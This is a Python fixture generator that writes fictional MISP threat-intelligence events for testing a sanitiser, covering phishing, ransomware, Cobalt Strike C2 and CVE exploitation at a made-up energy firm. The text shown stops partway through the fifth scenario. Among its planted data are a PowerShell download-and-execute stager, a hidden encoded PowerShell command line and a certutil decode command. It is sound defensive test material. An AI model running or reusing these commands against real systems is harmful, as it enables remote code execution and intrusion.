#!/usr/bin/env python3
"""Generate the example MISP events used by the demo and the tests.

The events describe incidents seen by the fictional member "Example Energy Ltd" (see
examples/events/README.md). Each one is written as ``examples/events/<event-uuid>.json`` in
MISP's feed/event shape ``{"Event": {...}}``.

Sensitive values are planted on purpose: staff e-mails, internal hosts and addresses, ticket
numbers, project names, targeting data, TLP:RED and distribution-0 content, some of it
defanged, percent-encoded or base64-encoded. ``tests/fixtures/canaries.json`` lists each planted
value ("sensitive") and the external indicators that a correct sanitiser must keep
("shareable_indicators").

The output is deterministic: uuids are derived from sha256 of fixed labels, timestamps come from
a fixed base date and the few generated lists use a seeded ``random.Random``. Running the script
again rewrites every file byte for byte::

    python examples/make_events.py                      # rewrite the committed files
    python examples/make_events.py --out /tmp/ev --canaries /tmp/canaries.json

Only reserved names are used: example.com/.net/.org, ``*.example``, 192.0.2.0/24,
198.51.100.0/24, 203.0.113.0/24, RFC 1918 ranges, 2001:db8::/32 and AS64496-AS64511.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import ipaddress
import json
import random
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import unquote

SEED = 7_303_2025
NAMESPACE = "legion-misp/examples/v1"
HERE = Path(__file__).resolve().parent
DEFAULT_EVENTS_DIR = HERE / "events"
DEFAULT_CANARIES = HERE.parent / "tests" / "fixtures" / "canaries.json"

# Day 0 of the scenario timeline; events happen over roughly two months.
BASE_TIME = datetime(2025, 3, 3, 7, 0, tzinfo=UTC)


def det_uuid(*parts: str) -> str:
    """A uuid4-format uuid derived from fixed labels (RFC 4122 variant, version 4)."""
    digest = hashlib.sha256("\x1f".join((NAMESPACE, *parts)).encode()).digest()
    return str(uuid.UUID(bytes=digest[:16], version=4))


def sha256_of(label: str) -> str:
    return hashlib.sha256(f"example-sample:{label}".encode()).hexdigest()


def sha1_of(label: str) -> str:
    return hashlib.sha1(f"example-sample:{label}".encode(), usedforsecurity=False).hexdigest()


def md5_of(label: str) -> str:
    return hashlib.md5(f"example-sample:{label}".encode(), usedforsecurity=False).hexdigest()


def epoch(moment: datetime) -> str:
    return str(int(moment.timestamp()))


def iso(moment: datetime) -> str:
    return moment.isoformat(timespec="microseconds")


def at(day: int, hour: int = 0, minute: int = 0) -> datetime:
    """A moment on the scenario timeline (day 0 = 2025-03-03 07:00 UTC)."""
    return BASE_TIME + timedelta(days=day, hours=hour, minutes=minute)


# --------------------------------------------------------------------------------------------
# Organisation facts (must match the product's example config)
# --------------------------------------------------------------------------------------------

ORG_NAME = "Example Energy Ltd"
ORG = {"name": ORG_NAME, "uuid": det_uuid("organisation", ORG_NAME)}
INTERNAL_NETWORKS = ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16")
INTERNAL_DOMAINS = ("corp.example", "exampleenergy.example")
PUBLIC_NETWORKS = ("192.0.2.224/27",)
SENSITIVE_TERMS = ("Project Nightjar", "Substation Kestrel")

# Other federation members; they only appear as the organisation of a sighting.
PARTNERS = {
    name: {"name": name, "uuid": det_uuid("organisation", name)}
    for name in ("Example Hydro Cooperative", "Example Grid Services GmbH", "Example Water Authority")
}

SHARING_GROUPS = {
    "energy-isac": {
        "id": "1",
        "name": "Energy-ISAC Federation",
        "uuid": det_uuid("sharing-group", "Energy-ISAC Federation"),
        "releasability": "Members of the Energy-ISAC federation only",
    },
    "nordic": {
        "id": "2",
        "name": "Nordic Utilities Trust",
        "uuid": det_uuid("sharing-group", "Nordic Utilities Trust"),
        "releasability": "Nordic utility operators under the trust agreement",
    },
}


@dataclass(frozen=True)
class Person:
    first: str
    last: str
    domain: str
    role: str

    @property
    def email(self) -> str:
        return f"{self.first.lower()}.{self.last.lower()}@{self.domain}"

    @property
    def name(self) -> str:
        return f"{self.first} {self.last}"

    @property
    def account(self) -> str:
        """Windows logon name as it appears in logs: CORP\\ahartmann."""
        return f"CORP\\{self.first[0].lower()}{self.last.lower()}"


STAFF = {
    "alice": Person("Alice", "Hartmann", "corp.example", "Finance controller"),
    "bjorn": Person("Bjorn", "Lindqvist", "corp.example", "OT engineer"),
    "chloe": Person("Chloe", "Okafor", "exampleenergy.example", "HR business partner"),
    "daniel": Person("Daniel", "Reyes", "exampleenergy.example", "Chief Financial Officer"),
    "elena": Person("Elena", "Marchetti", "corp.example", "SOC analyst"),
    "farid": Person("Farid", "Haddad", "corp.example", "SCADA engineer"),
    "grace": Person("Grace", "Nakamura", "exampleenergy.example", "Procurement lead"),
    "henrik": Person("Henrik", "Dahl", "corp.example", "Windows administrator"),
    "isabel": Person("Isabel", "Fontaine", "exampleenergy.example", "Communications officer"),
    "jonas": Person("Jonas", "Weber", "corp.example", "CISO"),
    "kira": Person("Kira", "Ivanova", "corp.example", "Incident responder"),
    "leo": Person("Leo", "Brandt", "exampleenergy.example", "Accounts payable clerk"),
    "maya": Person("Maya", "Sorensen", "corp.example", "Control room operator"),
}
S = STAFF
CREATORS = ("elena", "jonas", "kira")

# Internal systems: hostname -> address. The exampleenergy.example names are internet-facing and
# resolve to the organisation's own public block 192.0.2.224/27.
HOSTS = {
    "dc01.corp.example": "10.12.4.21",
    "fs-finance-01.corp.example": "10.12.8.40",
    "backup-nas-02.corp.example": "10.20.30.40",
    "sharepoint.exampleenergy.example": "10.12.10.5",
    "mail-gw-02.corp.example": "172.16.5.25",
    "vpn-gw-01.corp.example": "172.16.5.10",
    "proxy-01.corp.example": "172.16.6.8",
    "fw-edge-01.corp.example": "172.16.0.1",
    "zeek-ot-02.corp.example": "172.20.1.7",
    "jump-ot-02.corp.example": "10.40.1.12",
    "historian-01.ot.corp.example": "10.40.2.30",
    "scada-hmi-03.corp.example": "10.40.8.15",
    "rtu-gw-kestrel-01.ot.corp.example": "10.44.0.5",
    "eng-ws-117.corp.example": "192.168.50.117",
    "fin-ws-042.corp.example": "192.168.20.42",
    "vpn.exampleenergy.example": "192.0.2.230",
    "mail.exampleenergy.example": "192.0.2.231",
    "portal.exampleenergy.example": "192.0.2.240",
    "www.exampleenergy.example": "192.0.2.241",
}
IP = HOSTS  # IP["dc01.corp.example"] reads well in the scenarios
TICKETS = ("INC-0048102", "INC-0048157", "INC-0048213", "INC-0048290", "INC-0048377", "INC-0048402",
           "INC-0048519", "INC-0048650")
SERVICE_ACCOUNTS = ("CORP\\svc-vendor-ra", "CORP\\svc-backup")

# A PowerShell -EncodedCommand (UTF-16LE) and a plain base64 blob, both hiding internal names.
PS_STAGER = "IEX (New-Object Net.WebClient).DownloadString('http://10.40.1.12:8080/s.ps1')"
PS_STAGER_B64 = base64.b64encode(PS_STAGER.encode("utf-16-le")).decode()
SHARE_MOUNT = "net use Z: \\\\fs-finance-01.corp.example\\Finance$ /user:CORP\\svc-backup"
SHARE_MOUNT_B64 = base64.b64encode(SHARE_MOUNT.encode()).decode()
TXT_CHUNK = "host=eng-ws-117.corp.example;user=CORP\\blindqvist;cwd=C:\\Projects\\Project Nightjar\\HV"
TXT_CHUNK_B64 = base64.b64encode(TXT_CHUNK.encode()).decode()


@dataclass(frozen=True)
class Canary:
    value: str
    kind: str
    encoding: str | None = None  # defanged | percent | base64 | base64-utf16le
    decoded: str | None = None
    required: bool = True  # False: a known fact listed only if some event happens to contain it


def registered_canaries() -> list[Canary]:
    """Sensitive values planted in the events, with what they are.

    Every staff member and internal system is known, so that any of them appearing in an event is
    listed; only the values planted on purpose are required to appear.
    """
    canaries = [Canary(ORG_NAME, "org-name"), Canary("example-energy-ltd", "org-name"),
                Canary(ORG["uuid"], "org-uuid")]
    canaries += [Canary(p.email, "creator-email" if key in CREATORS else "staff-email", required=False)
                 for key, p in STAFF.items()]
    canaries += [Canary(p.name, "staff-name", required=False) for p in STAFF.values()]
    canaries += [Canary(p.account, "staff-account", required=False) for p in STAFF.values()]
    canaries += [Canary(a, "staff-account", required=False) for a in SERVICE_ACCOUNTS]
    for host, addr in HOSTS.items():
        canaries.append(Canary(host, "internal-host", required=False))
        public = ipaddress.ip_address(addr) in ipaddress.ip_network(PUBLIC_NETWORKS[0])
        canaries.append(Canary(addr, "org-public-ip" if public else "internal-ip", required=False))
    canaries += [Canary(t, "sensitive-term") for t in SENSITIVE_TERMS]
    canaries += [Canary("substation kestrel", "sensitive-term")]
    canaries += [Canary(t, "ticket") for t in TICKETS]
    canaries += [Canary(p["name"], "sighting-org") for p in PARTNERS.values()]
    canaries += [Canary(p["uuid"], "sighting-org") for p in PARTNERS.values()]
    # Hidden forms: the value is the literal text in the event, decoded is what it hides.
    canaries += [
        Canary("10[.]20[.]30[.]40", "internal-ip", "defanged", "10.20.30.40"),
        Canary("fs-finance-01[.]corp[.]example", "internal-host", "defanged", "fs-finance-01.corp.example"),
        Canary("hxxp://10[.]40[.]1[.]12:8080/s.ps1", "internal-ip", "defanged",
               "http://10.40.1.12:8080/s.ps1"),
        Canary("Project%20Nightjar", "sensitive-term", "percent", "Project Nightjar"),
        Canary("alice.hartmann%40corp.example", "staff-email", "percent", "alice.hartmann@corp.example"),
        Canary("isabel.fontaine%40exampleenergy.example", "staff-email", "percent",
               "isabel.fontaine@exampleenergy.example"),
        Canary(PS_STAGER_B64, "internal-ip", "base64-utf16le", PS_STAGER),
        Canary(SHARE_MOUNT_B64, "internal-host", "base64", SHARE_MOUNT),
        Canary(TXT_CHUNK_B64, "internal-host", "base64", TXT_CHUNK),
    ]
    return canaries


# --------------------------------------------------------------------------------------------
# MISP vocabulary used by the scenarios
# --------------------------------------------------------------------------------------------

# type -> (default category, default to_ids), as in MISP's describeTypes sane_defaults.
TYPE_DEFAULTS: dict[str, tuple[str, bool]] = {
    "AS": ("Network activity", False),
    "counter": ("Other", False),
    "cpe": ("External analysis", False),
    "datetime": ("Other", False),
    "domain": ("Network activity", True),
    "domain|ip": ("Network activity", True),
    "email-attachment": ("Payload delivery", True),
    "email-body": ("Payload delivery", False),
    "email-dst": ("Network activity", True),
    "email-dst-display-name": ("Payload delivery", False),
    "email-message-id": ("Payload delivery", False),
    "email-reply-to": ("Payload delivery", False),
    "email-src": ("Payload delivery", True),
    "email-src-display-name": ("Payload delivery", False),
    "email-subject": ("Payload delivery", False),
    "email-x-mailer": ("Payload delivery", False),
    "filename": ("Payload delivery", True),
    "float": ("Other", False),
    "hostname": ("Network activity", True),
    "ip-dst": ("Network activity", True),
    "ip-dst|port": ("Network activity", True),
    "ip-src": ("Network activity", True),
    "ip-src|port": ("Network activity", True),
    "link": ("External analysis", False),
    "md5": ("Payload delivery", True),
    "mutex": ("Artifacts dropped", True),
    "port": ("Network activity", False),
    "regkey": ("Persistence mechanism", True),
    "sha1": ("Payload delivery", True),
    "sha256": ("Payload delivery", True),
    "size-in-bytes": ("Other", False),
    "target-email": ("Targeting data", False),
    "target-location": ("Targeting data", False),
    "target-machine": ("Targeting data", False),
    "target-org": ("Targeting data", False),
    "target-user": ("Targeting data", False),
    "text": ("Other", False),
    "uri": ("Network activity", True),
    "url": ("Network activity", True),
    "user-agent": ("Network activity", False),
    "vulnerability": ("External analysis", False),
    "whois-registrant-email": ("Attribution", False),
}

# Object templates shipped with PyMISP: name -> (template uuid, template version, meta-category, description)
TEMPLATES = {
    "domain-ip": ("43b3b146-77eb-4931-b4cc-b66c60f28734", "11", "network",
                  "A domain/hostname and IP address seen as a tuple in a specific time frame."),
    "email": ("a0c666e0-fc65-4be8-b48f-3423d788b552", "19", "network",
              "Email object describing an email with meta-information"),
    "file": ("688c46fb-5edb-40a3-8273-1af7923e2215", "25", "file",
             "File object describing a file with meta-information"),
    "ip-port": ("9f8cea74-16fe-4968-a2b4-026676949ac6", "10", "network",
                "An IP address (or domain or hostname) and a port seen as a tuple (or as a triple) in a "
                "specific time frame."),
    "network-connection": ("af16764b-f8e5-4603-9de1-de34d272f80b", "7", "network",
                           "A local or remote network connection."),
    "url": ("60efb77b-40b5-4c46-871b-ed1ed999fce5", "10", "network",
            "url object describes an url along with its normalized field (like extracted using faup parsing "
            "library) and its metadata."),
    "victim": ("a8806e40-39ad-435f-be02-ac2a13d6fc7d", "10", "misc",
               "Victim object describes the target of an attack or abuse."),
    "vulnerability": ("81650945-f186-437b-8945-9f31715d32da", "12", "vulnerability",
                      "Vulnerability object describing a common vulnerability enumeration which can "
                      "describe published, unpublished, under review or embargo vulnerability for software, "
                      "equipments or hardware."),
}

# object relation -> category, where the template or MISP's defaults differ from TYPE_DEFAULTS.
RELATION_CATEGORIES = {
    ("email", "to"): "Payload delivery",
    ("email", "cc"): "Payload delivery",
    ("email", "to-display-name"): "Payload delivery",
    ("email", "send-date"): "Other",
    ("ip-port", "protocol"): "Network activity",
}

ATTACK = "misp-galaxy:mitre-attack-pattern"


def attack(name: str) -> str:
    return f'{ATTACK}="{name}"'


DISTRIBUTION_NAMES = {0: "Your organisation only", 1: "This community only", 2: "Connected communities",
                      3: "All communities", 4: "Sharing group", 5: "Inherit event"}
THREAT_LEVELS = {1: "High", 2: "Medium", 3: "Low", 4: "Undefined"}

# Tags that keep an event or attribute from being shared at all.
NON_SHAREABLE_TAGS = {"tlp:red": "tlp-red", "tlp:amber+strict": "tlp-amber-strict", "PAP:RED": "pap-red"}
# Attribute types whose value is an indicator a sanitiser should keep when it is external.
INDICATOR_TYPES = {
    "AS", "domain", "domain|ip", "email-attachment", "email-reply-to", "email-src", "filename", "hostname",
    "ip-dst", "ip-dst|port", "ip-src", "ip-src|port", "md5", "mutex", "sha1", "sha256", "uri", "url",
    "user-agent", "vulnerability", "whois-registrant-email",
}
NUMERIC_TYPES = {"counter", "float", "size-in-bytes", "port"}


# --------------------------------------------------------------------------------------------
# Scenario building blocks
# --------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Sight:
    """A sighting: type "0" = seen, "1" = false positive."""

    org: dict
    source: str
    hours_after: int = 2
    type: str = "0"


@dataclass
class Attr:
    """An attribute, or an object attribute when relation is set."""

    type: str
    value: str
    comment: str = ""
    category: str | None = None
    to_ids: bool | None = None
    distribution: int = 5
    tags: tuple[str, ...] = ()
    sightings: tuple[Sight, ...] = ()
    first_seen: datetime | None = None
    last_seen: datetime | None = None
    disable_correlation: bool = False
    relation: str | None = None
    ref: str | None = None  # name used by event reports: @@ref@@


@dataclass
class Obj:
    """A MISP object built from a template."""

    name: str
    attributes: list[Attr]
    comment: str = ""
    distribution: int = 5
    ref: str | None = None
    references: tuple[tuple[str, str], ...] = ()  # (relationship_type, ref of the target)
    first_seen: datetime | None = None
    last_seen: datetime | None = None


@dataclass
class Report:
    """An event report (markdown). @@ref@@ becomes @[attribute](uuid) or @[object](uuid)."""

    name: str
    content: str
    distribution: int = 5


@dataclass
class Scenario:
    slug: str
    info: str
    day: int
    distribution: int
    tlp: str
    pap: str
    creator: str
    threat_level: int
    analysis: int
    exercises: str
    tags: tuple[str, ...] = ()
    published: bool = True
    sharing_group: str | None = None
    attributes: list[Attr] = field(default_factory=list)
    objects: list[Obj] = field(default_factory=list)
    reports: list[Report] = field(default_factory=list)


def rel(relation: str, type_: str, value: str, **kwargs) -> Attr:
    return Attr(type_, value, relation=relation, **kwargs)


def file_object(label: str, filename: str, size: int, *, category: str = "Payload delivery",
                entropy: str | None = None, comment: str = "", ref: str | None = None,
                distribution: int = 5, references: tuple[tuple[str, str], ...] = ()) -> Obj:
    """A file object whose hashes are those of the fixed string ``label``."""
    attrs = [
        rel("filename", "filename", filename, category=category),
        rel("md5", "md5", md5_of(label), category=category),
        rel("sha1", "sha1", sha1_of(label), category=category),
        rel("sha256", "sha256", sha256_of(label), category=category),
        rel("size-in-bytes", "size-in-bytes", str(size), disable_correlation=True),
    ]
    if entropy is not None:
        attrs.append(rel("entropy", "float", entropy, disable_correlation=True))
    return Obj("file", attrs, comment=comment, ref=ref, distribution=distribution, references=references)


def email_object(*, sender: str, to: list[str], subject: str, body: str, message_id: str,
                 sent: datetime, display_name: str | None = None, reply_to: str | None = None,
                 attachments: tuple[str, ...] = (), x_mailer: str | None = None, comment: str = "",
                 to_names: tuple[str, ...] = (), received_by: str | None = None,
                 ref: str | None = None, to_distribution: int = 5,
                 references: tuple[tuple[str, str], ...] = ()) -> Obj:
    attrs = [rel("from", "email-src", sender, to_ids=True)]
    if display_name:
        attrs.append(rel("from-display-name", "email-src-display-name", display_name))
    attrs += [rel("to", "email-dst", addr, to_ids=False, distribution=to_distribution) for addr in to]
    attrs += [rel("to-display-name", "email-dst-display-name", name, distribution=to_distribution)
              for name in to_names]
    if reply_to:
        attrs.append(rel("reply-to", "email-reply-to", reply_to, to_ids=True))
    attrs += [
        rel("subject", "email-subject", subject),
        rel("message-id", "email-message-id", message_id),
        rel("send-date", "datetime", iso(sent), disable_correlation=True),
    ]
    attrs += [rel("attachment", "email-attachment", name) for name in attachments]
    if x_mailer:
        attrs.append(rel("x-mailer", "email-x-mailer", x_mailer))
    if received_by:
        attrs.append(rel("received-header-hostname", "hostname", received_by, to_ids=False))
    attrs.append(rel("email-body", "email-body", body, disable_correlation=True))
    return Obj("email", attrs, comment=comment, ref=ref, references=references)


def pick_hosts(rng: random.Random, network: str, first: int, last: int, count: int) -> list[str]:
    """``count`` distinct addresses of ``network`` with host numbers in [first, last], sorted."""
    base = ipaddress.ip_network(network).network_address
    numbers = sorted(rng.sample(range(first, last + 1), count))
    return [str(base + n) for n in numbers]


# --------------------------------------------------------------------------------------------
# The scenarios
# --------------------------------------------------------------------------------------------

def scenarios(rng: random.Random) -> list[Scenario]:
    ee = ORG
    hydro = PARTNERS["Example Hydro Cooperative"]
    grid = PARTNERS["Example Grid Services GmbH"]
    water = PARTNERS["Example Water Authority"]
    events: list[Scenario] = []

    # 1 ---------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="phish-regulator-portal", day=0, distribution=3, tlp="tlp:clear", pap="PAP:GREEN",
        creator="elena", threat_level=2, analysis=2,
        info="Spear-phishing campaign impersonating the energy regulator (credential harvesting)",
        exercises="email object (from/to/subject/body/reply-to/message-id), staff recipients, IPv6, "
                  "counter, distribution-0 text attribute, sightings seen + false positive",
        tags=(attack("Phishing - T1566"), attack("Spearphishing Link - T1566.002"),
              'circl:incident-classification="phishing"'),
        attributes=[
            Attr("domain", "regulator-notice.example.net", "Credential-harvesting site",
                 first_seen=at(-2, 18), last_seen=at(1, 9), ref="dom",
                 sightings=(Sight(ee, "mail.exampleenergy.example (192.0.2.231) MX logs", 1),
                            Sight(hydro, "perimeter proxy logs", 30))),
            Attr("url", "https://regulator-notice.example.net/portal/login.php", "Landing page of the lure",
                 sightings=(Sight(ee, "proxy-01.corp.example", 2),
                            Sight(grid, "URL scanner verdict disputed", 50, "1"))),
            Attr("ip-dst", "198.51.100.23", "Resolves regulator-notice.example.net (passive DNS)"),
            Attr("ip-dst", "2001:db8:4f1a::23", "AAAA record of the landing page"),
            Attr("domain|ip", "regulator-notice.example.net|198.51.100.23"),
            Attr("email-src", "compliance@regulator-notice.example.net", "Envelope sender"),
            Attr("counter", "37", f"Mailboxes at {ORG_NAME} that received the lure"),
            Attr("text", f"Purge of 37 mailboxes run by {S['henrik'].email} on mail-gw-02.corp.example "
                         f"(172.16.5.25); {S['alice'].account} and {S['maya'].account} entered credentials "
                         "(password reset forced). Tracked in INC-0048102.",
                 "Internal remediation notes", category="Internal reference", distribution=0),
        ],
        objects=[
            email_object(
                sender="compliance@regulator-notice.example.net",
                display_name="Energy Regulator Compliance Desk",
                to=[S["alice"].email, S["bjorn"].email, S["maya"].email],
                to_names=(S["alice"].name, S["bjorn"].name, S["maya"].name),
                reply_to="attest@regulator-notice.example.net", received_by="mail.exampleenergy.example",
                subject="Action required: annual grid-code compliance attestation",
                message_id="<20250303064112.4f2a91@mail.regulator-notice.example.net>",
                sent=at(0, -1, 41),
                body="Dear colleague,\n\nYour organisation's annual grid-code compliance attestation is "
                     "overdue. Please sign in to the regulator portal at "
                     "https://regulator-notice.example.net/portal/login.php before 14 March to avoid a "
                     "compliance notice.\n\nKind regards,\nEnergy Regulator Compliance Desk",
                comment=f"Reported by {S['maya'].email} with the report-phish button",
            ),
        ],
    ))

    # 2 ---------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="phish-invoice-iso", day=3, distribution=2, tlp="tlp:green", pap="PAP:GREEN",
        creator="elena", threat_level=2, analysis=2,
        info="Invoice-themed phishing delivering ISO archive with a DLL loader",
        exercises="email + three file objects linked by object references, ip-dst|port, event report "
                  "with @[object] references, ticket and internal workstation in the report",
        tags=(attack("Spearphishing Attachment - T1566.001"), attack("User Execution - T1204")),
        attributes=[
            Attr("ip-dst|port", "198.51.100.61|443", "Loader C2", ref="c2",
                 first_seen=at(3, 1), last_seen=at(5, 12)),
            Attr("url", "https://198.51.100.61/gate/stage2.bin", "Second stage download"),
            Attr("hostname", "cdn-updates.example.org", "Fallback C2 from the loader configuration"),
            Attr("counter", "12", "Mailboxes that received the lure"),
        ],
        objects=[
            email_object(
                sender="billing@northwind-supplies.example.org", display_name="Northwind Supplies Billing",
                to=[S["grace"].email, S["leo"].email], to_names=(S["grace"].name, S["leo"].name),
                subject="Overdue invoice 2025-0219 - final reminder",
                message_id="<a1c9e7f2.0219@northwind-supplies.example.org>", sent=at(3, 0, 12),
                attachments=("Invoice_2025-0219.iso",), x_mailer="Microsoft Outlook 16.0",
                body=f"Hello,\n\nOur records show invoice 2025-0219 to {ORG_NAME} accounts payable is "
                     "30 days overdue. The invoice and statement are attached as a disk image.\n\n"
                     "Regards,\nNorthwind Supplies - Credit Control",
                ref="mail", references=(("contains", "iso"),),
            ),
            file_object("invoice-iso", "Invoice_2025-0219.iso", 1458176, ref="iso",
                        references=(("contains", "lnk"),)),
            file_object("invoice-lnk", "Invoice_2025-0219.lnk", 2341, ref="lnk",
                        references=(("drops", "dll"),)),
            file_object("invoice-dll", "vcruntime140_ext.dll", 684032, category="Artifacts dropped",
                        entropy="6.82", ref="dll", references=(("connects-to", "c2"),)),
        ],
        reports=[Report("Analyst summary", (
            "# Invoice ISO campaign\n\n"
            "Lure @@mail@@ carried @@iso@@, whose shortcut @@lnk@@ side-loads @@dll@@.\n\n"
            "The loader beacons to @@c2@@ over HTTPS.\n\n"
            "## Internal impact\n\n"
            "* One user opened the ISO on `fin-ws-042.corp.example` (192.168.20.42); the host was isolated.\n"
            "* Tracked in INC-0048157.\n\n"
            "Author: Elena Marchetti (SOC)\n"
        ))],
    ))

    # 3 ---------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="ransomware-fileservers", day=7, distribution=4, sharing_group="energy-isac",
        tlp="tlp:amber", pap="PAP:AMBER", creator="kira", threat_level=1, analysis=2,
        info="Ransomware intrusion encrypting finance file servers (INC-0048213)",
        exercises="sharing group, ransomware file objects (md5/sha1/sha256/size/entropy), internal "
                  "ip-dst|port, network-connection with internal source, victim object, size-in-bytes, "
                  "float, PowerShell -enc (UTF-16LE base64), base64 and defanged internal values",
        tags=(attack("Data Encrypted for Impact - T1486"), attack("Inhibit System Recovery - T1490"),
              attack("SMB/Windows Admin Shares - T1021.002"), 'misp-galaxy:ransomware="LockBit"'),
        attributes=[
            Attr("ip-dst|port", "203.0.113.45|443", "Cobalt Strike C2 used before encryption",
                 first_seen=at(5, 22), last_seen=at(7, 3), ref="c2",
                 sightings=(Sight(ee, "proxy-01.corp.example", 1),)),
            Attr("domain", "files-sync.example.net", "Exfiltration endpoint (rclone WebDAV)"),
            Attr("ip-dst|port", f"{IP['fs-finance-01.corp.example']}|445", "SMB lateral movement target",
                 to_ids=False),
            Attr("hostname", "fs-finance-01.corp.example", "Encrypted file server", to_ids=False),
            Attr("hostname", "dc01.corp.example", "NTDS.dit dumped with ntdsutil", to_ids=False),
            Attr("mutex", "Global\\LB3-7f3c1a9e", "Mutex created by the encryptor"),
            Attr("size-in-bytes", "48318382080", "Volume exfiltrated to files-sync.example.net (45 GiB)"),
            Attr("float", "2.75", "Ransom demand in BTC"),
            Attr("text", "Command line recovered from 4688 events on fs-finance-01:\n"
                         f"powershell.exe -nop -w hidden -enc {PS_STAGER_B64}",
                 "Stager", category="Artifacts dropped"),
            Attr("text", f"Encryptor also ran: cmd.exe /c echo {SHARE_MOUNT_B64} | certutil -decode",
                 "Share mapping used to reach the finance share", category="Artifacts dropped"),
            Attr("text", "Beacon configuration lists fallback 10[.]20[.]30[.]40 (backup NAS) and "
                         "hxxp://fs-finance-01[.]corp[.]example/share/upd.ps1",
                 "From the decrypted beacon config", category="Network activity"),
            Attr("target-machine", "fs-finance-01.corp.example"),
            Attr("target-machine", "backup-nas-02.corp.example", "Snapshots deleted"),
        ],
        objects=[
            file_object("lb3-encryptor", "svchost_upd.exe", 1204224, category="Payload installation",
                        entropy="7.91", comment="Encryptor", ref="enc",
                        references=(("communicates-with", "c2"),)),
            file_object("lb3-note", "Restore-My-Files.txt", 2418, category="Artifacts dropped",
                        comment="Ransom note dropped in every folder"),
            Obj("network-connection", [
                rel("ip-src", "ip-src", IP["fs-finance-01.corp.example"], to_ids=False),
                rel("ip-dst", "ip-dst", "203.0.113.45"),
                rel("src-port", "port", "51234", disable_correlation=True),
                rel("dst-port", "port", "443", disable_correlation=True),
                rel("layer4-protocol", "text", "TCP"),
                rel("src-bytes-count", "size-in-bytes", "48318382080", disable_correlation=True),
                rel("first-packet-seen", "datetime", iso(at(6, 1, 12))),
            ], comment="Exfiltration session seen by fw-edge-01.corp.example (172.16.0.1)"),
            Obj("victim", [
                rel("name", "target-org", f"{ORG_NAME} - Finance shared services"),
                rel("sectors", "text", "energy"),
                rel("regions", "target-location", "Northern Europe"),
                rel("node", "target-machine", "fs-finance-01.corp.example"),
                rel("classification", "text", "ransomware"),
            ]),
        ],
    ))

    # 4 ---------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="c2-cobaltstrike-teamservers", day=9, distribution=3, tlp="tlp:white", pap="PAP:GREEN",
        creator="elena", threat_level=2, analysis=2,
        info="Cobalt Strike team servers and redirectors observed beaconing from 198.51.100.0/24",
        exercises="C2 infrastructure (ip-dst, domain, hostname, url, ip-dst|port, domain|ip, AS, "
                  "user-agent), domain-ip and ip-port objects, first/last seen, attribute tagged "
                  "tlp:red, distribution-0 attribute, partner sightings incl. false positive",
        tags=(attack("Application Layer Protocol - T1071"), attack("Web Protocols - T1071.001"),
              'misp-galaxy:tool="Cobalt Strike"'),
        attributes=[
            Attr("ip-dst", "198.51.100.14", "Team server", first_seen=at(2), last_seen=at(9, 1),
                 sightings=(Sight(ee, "fw-edge-01.corp.example", 1), Sight(hydro, "NetFlow collector", 5))),
            Attr("ip-dst", "198.51.100.15", "Redirector", first_seen=at(4), last_seen=at(9, 1),
                 sightings=(Sight(grid, "Shared CDN address, benign traffic", 7, "1"),)),
            Attr("domain", "cdn-telemetry.example.net"),
            Attr("hostname", "api.cdn-telemetry.example.net", "Beacon host header"),
            Attr("url", "https://api.cdn-telemetry.example.net/jquery-3.3.1.min.js", "Malleable C2 GET URI"),
            Attr("ip-dst|port", "198.51.100.14|8443", "HTTPS listener"),
            Attr("domain|ip", "cdn-telemetry.example.net|198.51.100.15"),
            Attr("AS", "AS64501", "Hosting provider of both servers"),
            Attr("user-agent", "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
                 "Beacon user agent"),
            Attr("ip-dst", "198.51.100.201", "Operator VPN exit; partner-provided, do not redistribute",
                 tags=("tlp:red",)),
            Attr("hostname", "ops-panel.cdn-telemetry.example.net",
                 "Seen only in proxy-01.corp.example logs from jump-ot-02", distribution=0),
        ],
        objects=[
            Obj("domain-ip", [
                rel("domain", "domain", "cdn-telemetry.example.net"),
                rel("ip", "ip-dst", "198.51.100.15"),
                rel("first-seen", "datetime", iso(at(4))),
                rel("last-seen", "datetime", iso(at(9, 1))),
                rel("text", "text", "Redirector in front of the team server"),
            ]),
            Obj("ip-port", [
                rel("ip", "ip-dst", "198.51.100.14"),
                rel("dst-port", "port", "8443"),
                rel("AS", "AS", "AS64501"),
                rel("protocol", "text", "TCP"),
            ], comment="Team server listener"),
        ],
        reports=[Report("Beacon configuration", (
            "## Extracted Cobalt Strike configuration\n\n"
            "| field | value |\n|---|---|\n"
            "| C2 | api.cdn-telemetry.example.net,/jquery-3.3.1.min.js |\n"
            "| sleep | 45000 ms, jitter 37 % |\n"
            "| spawnto | %windir%\\\\syswow64\\\\dllhost.exe |\n"
        ))],
    ))

    # 5 ---------------------------------------------------------------------------------------
    events.append(Scenario(
        slug="cve-2024-3400-exploitation", day=12, distribution=1, tlp="tlp:amber", pap="PAP:GREEN",
        creator="kira", threat_level=1, analysis=2,
        info="Exploitation attempts of CVE-2024-3400 (GlobalProtect) against the edge firewall",
        exercises="vulnerability attribute and object (cvss float, cpe, link), org's own public IP as "
                  "target, target-machine, user-agent, ticket in event report",
        tags=(attack("Exploit Public-Facing Application - T1190"),),
        attributes=[
            Attr("vulnerability", "CVE-2024-3400", "Command injection in GlobalProtect", ref="cve"),
            Attr("ip-src", "203.0.113.17", "Exploitation source", first_seen=at(11, 20), last_seen=at(12, 2),
                 sightings=(Sight(ee, "fw-edge-01.corp.example threat log", 1),)),
            Attr("ip-src", "203.0.113.18", "Exploitation source"),
            Attr("uri", "/ssl-vpn/hipreport.esp", "Targeted endpoint"),
            Attr("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"),
            Attr("ip-dst", IP["vpn.exampleenergy.example"], "Our GlobalProtect portal (targeted)",
                 to_ids=False),
            Attr("target-machine", "vpn.exampleenergy.example"),
        ],
        objects=[
            Obj("vulnerability", [
                rel("id", "vulnerability", "CVE-2024-3400"),
                rel("cvss-score", "float", "10.0"),
                rel("summary", "text", "OS command injection in the GlobalProtect feature of PAN-OS allows "
                                       "an unauthenticated attacker to execute code as root."),
